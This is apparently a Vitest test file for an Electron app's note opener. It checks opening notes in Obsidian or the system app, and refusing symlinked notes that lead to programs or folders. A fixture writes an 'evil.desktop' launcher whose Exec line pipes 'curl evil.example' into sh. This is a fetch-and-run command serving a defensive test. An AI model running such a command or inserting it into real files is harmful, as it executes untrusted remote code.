import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { createMemoryLogger } from '../log/logger';

const electron = vi.hoisted(() => ({
  app: { getApplicationNameForProtocol: vi.fn((_protocol: string) => '') },
  shell: {
    openExternal: vi.fn(async (_url: string) => undefined),
    openPath: vi.fn(async (_path: string) => ''),
  },
}));
vi.mock('electron', () => electron);

const { createNoteOpener } = await import('./note-opener');
const vault = realpathSync(mkdtempSync(join(tmpdir(), 'staff-desk-vault-')));
afterAll(() => rmSync(vault, { recursive: true, force: true }));
mkdirSync(join(vault, 'Guides'));
const NOTE = join(vault, 'Guides', 'Zoho mail.md');
writeFileSync(NOTE, '# Zoho mail');

function setup() {
  const log = createMemoryLogger();
  return { log, open: createNoteOpener({ log }) };
}

beforeEach(() => {
  vi.clearAllMocks();
  electron.app.getApplicationNameForProtocol.mockReturnValue('');
  electron.shell.openExternal.mockResolvedValue(undefined);
  electron.shell.openPath.mockResolvedValue('');
});

describe('opening a source note', () => {
  it('with Obsidian installed, opens the note in Obsidian by its full path', async () => {
    electron.app.getApplicationNameForProtocol.mockReturnValue('Obsidian');
    const { open } = setup();
    await expect(open(NOTE)).resolves.toEqual({ ok: true, openedWith: 'obsidian' });
    expect(electron.app.getApplicationNameForProtocol).toHaveBeenCalledWith('obsidian://');
    expect(electron.shell.openExternal).toHaveBeenCalledWith(`obsidian://open?path=${encodeURIComponent(NOTE)}`);
    expect(electron.shell.openPath).not.toHaveBeenCalled();
  });

  it('without Obsidian, opens the file in the system app for Markdown', async () => {
    const { open } = setup();
    await expect(open(NOTE)).resolves.toEqual({ ok: true, openedWith: 'system' });
    expect(electron.shell.openExternal).not.toHaveBeenCalled();
    expect(electron.shell.openPath).toHaveBeenCalledWith(NOTE);
  });

  it('when Obsidian fails to take it, falls back to the system app', async () => {
    electron.app.getApplicationNameForProtocol.mockReturnValue('Obsidian');
    electron.shell.openExternal.mockRejectedValue(new Error('handler crashed'));
    const { open, log } = setup();
    await expect(open(NOTE)).resolves.toEqual({ ok: true, openedWith: 'system' });
    expect(log.lines.some((line) => line.includes('obsidian did not open'))).toBe(true);
  });

  it('when no app can open Markdown, says why instead of throwing', async () => {
    electron.shell.openPath.mockResolvedValue('No application is associated with the specified file.');
    const { open } = setup();
    await expect(open(NOTE)).resolves.toEqual({
      ok: false,
      reason: 'no_app_for_notes',
      message: 'No application is associated with the specified file.',
    });
  });
});

describe('SEC-7: a note that is a link', () => {
  // Windows tells a link to a folder from a link to a file; elsewhere the type is ignored.
  const link = (name: string, target: string, type: 'file' | 'dir' = 'file') => {
    const file = join(vault, name);
    symlinkSync(target, file, type);
    return file;
  };

  // Beside the notes, files the system would run rather than show; and a folder whose name looks like a note's.
  writeFileSync(join(vault, 'evil.desktop'), '[Desktop Entry]\nType=Application\nExec=sh -c "curl evil.example | sh"\n');
  writeFileSync(join(vault, 'setup.exe'), 'MZ');
  mkdirSync(join(vault, 'Archive.md'));

  it.each([
    // A program every system has: the Node running this test.
    ['a program outside the folder', process.execPath, 'file'],
    ['a launcher', 'evil.desktop', 'file'],
    ['a Windows program', 'setup.exe', 'file'],
    ['a folder', 'Archive.md', 'dir'],
  ] as const)('is refused, unopened, when it leads to %s', async (what, target, type) => {
    electron.app.getApplicationNameForProtocol.mockReturnValue('Obsidian');
    const note = link(`Link to ${what}.md`, target, type);
    const { open } = setup();
    await expect(open(note)).resolves.toEqual({ ok: false, reason: 'not_a_note' });
    expect(electron.shell.openExternal).not.toHaveBeenCalled();
    expect(electron.shell.openPath).not.toHaveBeenCalled();
  });

  it('leading to a note, gives the system app the note it leads to', async () => {
    const note = link('Shortcut.md', NOTE);
    const { open } = setup();
    await expect(open(note)).resolves.toEqual({ ok: true, openedWith: 'system' });
    expect(electron.shell.openPath).toHaveBeenCalledWith(NOTE);
  });

  it('leading nowhere, is reported missing', async () => {
    const { open } = setup();
    await expect(open(link('Dangling.md', join(vault, 'gone.md')))).resolves.toEqual({ ok: false, reason: 'note_missing' });
    expect(electron.shell.openPath).not.toHaveBeenCalled();
  });
});
